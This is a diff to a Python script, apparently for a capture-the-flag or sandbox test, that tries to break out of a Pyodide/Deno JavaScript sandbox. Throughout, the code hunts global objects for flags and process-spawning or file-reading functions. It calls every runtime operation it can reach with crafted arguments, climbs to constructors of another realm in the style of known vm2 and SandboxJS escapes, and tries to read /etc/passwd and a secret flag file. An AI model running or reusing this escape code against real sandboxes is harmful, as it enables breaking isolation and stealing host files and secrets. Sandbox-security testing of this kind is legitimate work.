@@ -5,9 +5,10 @@
 # Source: the escapes of Pyodide from Node (CVE-2025-68668, CVE-2026-5752)
 tries(lambda: js("""() => {
     const seen = new Set(), out = [], queue = [[globalThis, 'globalThis', 0]];
-    while (queue.length && seen.size < 50000) {
-        const [thing, path, depth] = queue.shift();
-        if (thing === null || !['object', 'function'].includes(typeof thing) || seen.has(thing) || depth > 6) continue;
+    for (let at = 0; at < queue.length && at < 3000; at++) {
+        const [thing, path, depth] = queue[at];
+        if (thing === null || !['object', 'function'].includes(typeof thing) || seen.has(thing) || depth > 5 || ArrayBuffer.isView(thing)) continue;
+        try { if (thing.length > 5000) continue; } catch { continue; }
         seen.add(thing);
         for (const key of Reflect.ownKeys(thing)) {
             let value;
@@ -15,7 +16,7 @@ tries(lambda: js("""() => {
             const name = path + '.' + String(key);
             if (typeof value === 'string' && value.includes('FLAG{')) out.push(name + '=' + value);
             if (/readFile|spawn|exec$|execSync|openSync|env$|core$|ops$|dlopen|connect/.test(String(key))) out.push(name);
-            queue.push([value, name, depth + 1]);
+            if (queue.length < 3000) queue.push([value, name, depth + 1]);
         }
         queue.push([Object.getPrototypeOf(thing), path + '.__proto__', depth + 1]);
     }
@@ -24,15 +25,16 @@ tries(lambda: js("""() => {
 
 # %% the operations of deno_core
 # Looks for the operations by which the runtime asks the host, and calls what it finds.
-import gc
+import gc, time
 from pyodide.ffi import JsProxy
 gc.unfreeze()
 for code in ("Deno.core.ops", "__bootstrap.core.ops", "globalThis.__infra", "Deno[Deno.internal]", "globalThis[Symbol.for('Deno.internal')]", "(0, eval)('core.ops')", "Object.getOwnPropertySymbols(globalThis).map(s => globalThis[s])"):
     tries(lambda: js(code))
 held = [thing for holder in gc.get_objects() for thing in gc.get_referents(holder) if isinstance(thing, JsProxy)]
 arguments = [(), (T.file,), (0, T.file, 1), (0, "../secret/flag", 1), (2**32, T.file), (URL,), ("memory", "{}"), (b"x" * 100,)]
+until = time.monotonic() + 3
 for thing in held:
-    if thing.typeof == "function" and "sleep" not in str(thing):
+    if thing.typeof == "function" and thing.name != "is_kept" and time.monotonic() < until:
         for given in arguments:
             try:
                 result = thing(*given)
@@ -52,7 +54,6 @@ tries(lambda: js("importScripts('file:///etc/passwd')"), lambda: js("require('fs
 # %% constructors of another realm
 # Climbs from objects of the host to constructors with more powers.
 # Source: the escapes of vm2 and SandboxJS (CVE-2026-26956 and others)
-import js as _js, pyodide_js
 climb = "('return [typeof Deno, typeof process, typeof require, typeof core, typeof __bootstrap].join() + Object.keys(this)')()"
 tries(*[(lambda code=code: js(code + climb)) for code in (
     "Function", "fetch.constructor", "pyodide.constructor.constructor", "pyodide._api.constructor.constructor",
@@ -97,7 +98,7 @@ tries(lambda: js("() => globalThis.seen.filter(s => s.includes('FLAG{')).join()"
 tries(*[(lambda code=code: js(code)) for code in (
     "debugger", "%DebugPrint(globalThis)", "%GetOptimizationStatus(eval)", "gc()", "d8.file.read('/etc/passwd')", "read('/etc/passwd')", "load('/etc/passwd')", "os.system('env')",
     "inspector.url()", "console.profile()", "performance.memory", "performance.measureUserAgentSpecificMemory()", "process.setFlagsFromString('--allow-natives-syntax')",
-    "v8.writeHeapSnapshot()", "console.memory", "new FinalizationRegistry(() => {}).register({}, 1)", "new WeakRef({}).deref()", "console.dir(globalThis)", "queueMicrotask(() => seen)",
+    "v8.writeHeapSnapshot()", "console.memory", "new FinalizationRegistry(() => {}).register({}, 1)", "new WeakRef({}).deref()", "console.dir(globalThis)", 
 )])
 
 # %% Emscripten's own powers
@@ -179,5 +180,8 @@ task = asyncio.ensure_future(later())
 atexit.register(lambda: print(open(T.file).read()))
 weakref.finalize(task, lambda: print(open(T.file).read()))
 threading.Thread(target=lambda: time.sleep(60), daemon=True).start()
-js("setInterval(() => { globalThis.ticks = (globalThis.ticks ?? 0) + 1; fetch('http://127.0.0.1/') .catch(() => {}); }, 5)")
+js("""(u) => {
+    const tick = () => { fetch(u).catch(() => {}); setTimeout(tick, 5); };
+    tick();
+}""", URL)
 await asyncio.sleep(0.2)
